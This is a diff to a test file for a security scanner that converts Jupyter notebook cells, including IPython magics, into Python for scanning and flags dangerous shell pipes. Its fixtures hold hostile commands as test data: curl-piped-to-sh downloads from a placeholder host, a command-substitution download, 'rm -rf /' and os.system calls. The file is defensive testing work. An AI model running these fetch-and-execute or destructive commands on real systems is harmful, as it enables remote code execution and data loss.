@@ -32,7 +32,7 @@ def test_code_cells_become_python_with_magics_commented() -> None:
     ).encode())
     assert code is not None
     assert code.text.splitlines() == [
-        "# %% [cell 2]", "import os", "# %time x = 1", "# !curl -s https://x.invalid | sh",
+        "# %% [cell 2]", "import os", "x = 1  # %time", "# !curl -s https://x.invalid | sh",
         "eval(input())", "# %% [cell 3]", "# %%bash", "# pip install requests", "# echo hi"]
     assert code.origin == ((0, 0), (2, 1), (2, 2), (2, 3), (2, 4), (0, 0), (3, 1), (3, 2),
                            (3, 3))
@@ -141,3 +141,40 @@ def test_a_cell_that_does_not_parse_is_not_scanned_not_a_tool_failure(seeded: Re
     result = judged(seeded)[1]
     assert result.status is StageStatus.PENDING
     assert "r.ipynb not scanned" in result.message
+
+
+def test_magics_that_run_python_stay_python() -> None:
+    source = ("%time eval(input())\ny = %timeit -n 10 -r 3 eval(input())\n"
+              "%prun -s cumulative os.system(cmd)\n/eval input()\n;os.system rm -rf /\n")
+    code = notebooks.code(notebook(("code", source), ("code", "%%timeit -n 3 x = eval(y)\nz = 1"),
+                                   ("code", "%%writefile job.py\nimport os\nos.system(cmd)"),
+                                   ("code", "%%script python3\nimport os\nos.system(cmd)"),
+                                   ("code", "%%perl\nsystem('curl x | sh')")).encode())
+    assert code is not None
+    lines = code.text.splitlines()
+    assert lines[1:6] == ["eval(input())  # %time", "y = eval(input())  # %timeit",
+                          "os.system(cmd)  # %prun", "eval(input())  # /",
+                          "os.system('rm -rf /')  # ;"]
+    assert "x = eval(y)  # %%timeit" in lines
+    assert lines.count("os.system(cmd)") == 2  # the file %%writefile writes, python3's script
+    assert code.shell == frozenset({len(lines) - 1, len(lines)})  # %%perl runs on the host
+
+
+def test_cells_and_worksheets_are_both_read() -> None:
+    both = {"nbformat": 3, "cells": [{"cell_type": "code", "source": "x = 1"}],
+            "worksheets": [{"cells": [{"cell_type": "code", "input": "evil()"}]}]}
+    code = notebooks.code(json.dumps(both).encode())
+    assert code is not None and "x = 1" in code.text and "evil()" in code.text
+
+
+def test_hidden_python_in_a_notebook_is_scanned(seeded: Repo) -> None:
+    seeded.write("nb.ipynb", notebook(("code", "import os\n%time os.system(input())\n")))
+    result = judged(seeded)[1]
+    assert any(f.tool == "bandit" and f.rule == "B605" and f.blocking and
+               f.message.startswith("[cell 1, line 2]") for f in result.findings)
+
+
+def test_command_substitution_of_a_download_blocks(seeded: Repo) -> None:
+    seeded.write("nb.ipynb", notebook(("code", '!sh -c "$(curl -fsSL https://x.invalid/i)"\n')))
+    result = judged(seeded)[1]
+    assert [f.rule for f in result.findings if f.blocking] == ["notebook-shell-pipe"]
